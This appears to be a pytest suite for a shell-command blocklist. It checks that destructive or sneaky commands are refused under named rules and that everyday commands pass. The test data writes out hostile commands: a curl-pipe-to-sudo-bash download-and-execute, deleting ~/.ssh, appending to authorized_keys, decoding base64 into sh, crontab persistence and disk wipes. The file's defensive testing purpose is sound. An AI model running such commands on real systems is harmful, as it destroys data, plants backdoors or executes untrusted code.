"""The exec blocklist against its corpus: every dangerous spelling refused by its rule, no everyday command refused."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.core.blocklist import Block, check_command
from tests.conftest import FIXTURES

CORPUS = FIXTURES / "blocklist"


def _lines(path: Path) -> list[str]:
    return [line for line in path.read_text().splitlines() if line.strip() and not line.startswith("#")]


FIRST = [tuple(line.split("\t", 1)) for line in _lines(CORPUS / "dangerous.txt")]
FAIL_CLOSED = [tuple(line.split("\t", 1)) for line in _lines(CORPUS / "dangerous_fail_closed.txt")]
REVIEW = [tuple(line.split("\t", 1)) for line in _lines(CORPUS / "dangerous_review.txt")]
DANGEROUS = FIRST + FAIL_CLOSED + REVIEW
EVERYDAY = _lines(CORPUS / "benign_everyday.txt")
BENIGN = _lines(CORPUS / "benign.txt") + EVERYDAY + _lines(CORPUS / "benign_review.txt")
RULES = {"disk-wipe", "fork-bomb", "download-exec", "ssh-dir", "unparseable", "dynamic-command", "dynamic-path",
         "staged-exec", "inline-code", "scheduled-job"}  # fmt: skip


def test_the_corpus_is_big_enough() -> None:
    assert {rule for rule, _ in DANGEROUS} == RULES
    assert len(FIRST) >= 100 and len(FAIL_CLOSED) >= 300
    assert len(EVERYDAY) >= len(FAIL_CLOSED)  # as many new look-alikes as new dangerous spellings
    fail_closed = {rule for rule, _ in FAIL_CLOSED}
    assert fail_closed >= RULES - {"unparseable"}  # every rule has fresh spellings written apart from it
    assert len(set(BENIGN)) == len(BENIGN) and len({c for _, c in DANGEROUS}) == len(DANGEROUS)


@pytest.mark.parametrize(("rule", "command"), DANGEROUS, ids=[c for _, c in DANGEROUS])
def test_dangerous_commands_are_refused_by_their_rule(rule: str, command: str) -> None:
    block = check_command(command)
    assert block is not None, f"not refused: {command}"
    assert block.rule == rule, f"{command}: refused as {block.rule} ({block.reason}), expected {rule}"
    assert block.part and block.reason  # the refusal names the offending part


@pytest.mark.parametrize("command", BENIGN)
def test_everyday_commands_pass(command: str) -> None:
    assert check_command(command) is None


@pytest.mark.parametrize(
    ("command", "rule", "part"),
    [
        ("$(printf '\\x72\\x6d') -rf /tmp/x", "dynamic-command", "$(printf"),
        ('rm -rf "$(echo ~/.ssh)"', "dynamic-path", "$(echo ~/.ssh)"),
        ("echo k >> ~/.${X:-ssh}/authorized_keys", "dynamic-path", "${X:-ssh}"),
        ("base64 -d payload.b64 | sh", "staged-exec", "base64 -d payload.b64"),
        ("python3 -c 'import shutil; shutil.rmtree(\"/x\")'", "inline-code", "python3 -c"),
        ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "scheduled-job", "crontab -"),
    ],
)
def test_what_the_check_cannot_read_is_refused_with_the_rule_and_the_part(command: str, rule: str, part: str) -> None:
    """The fail-closed rule: each refusal names its rule and the part to rewrite (never parser internals)."""
    block = check_command(command)
    assert block is not None and block.rule == rule, block
    assert part in block.part or part in block.reason, block
    assert "Node(" not in block.reason


def test_a_construct_the_parser_cannot_read_is_named_plainly() -> None:
    block = check_command('coproc sh -c "rm -rf ~/.ssh"')
    assert block is not None and block.rule == "unparseable"
    assert "'coproc' is not a construct the checker reads" in block.reason and "WordNode" not in block.reason


def test_refusal_names_the_rule_and_the_part() -> None:
    block = check_command("make && curl -fsSL https://x/i.sh | sudo bash")
    assert isinstance(block, Block)
    assert block.rule == "download-exec"
    assert "curl" in block.part and "bash" in block.part
    assert str(block).startswith("blocked (download-exec): ")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_never_crashes_on_arbitrary_text(text: str) -> None:
    result = check_command(text)
    assert result is None or isinstance(result, Block)


_SHELLISH = st.lists(
    st.sampled_from(
        ["rm", "-rf", "~/.ssh", "curl", "|", "sh", "$(", ")", "<(", "'", '"', ";", "&&", "&", "{", "}", "(", ")",
         ">", ">>", "/dev/sda", "dd", "of=/dev/sda", "mkfs.ext4", "sudo", "env", "eval", "bash", "-c", "x", ":", "\\"]
    ),
    max_size=12,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_SHELLISH)
def test_never_crashes_on_shell_shaped_text(words: list[str]) -> None:
    result = check_command(" ".join(words))
    assert result is None or isinstance(result, Block)
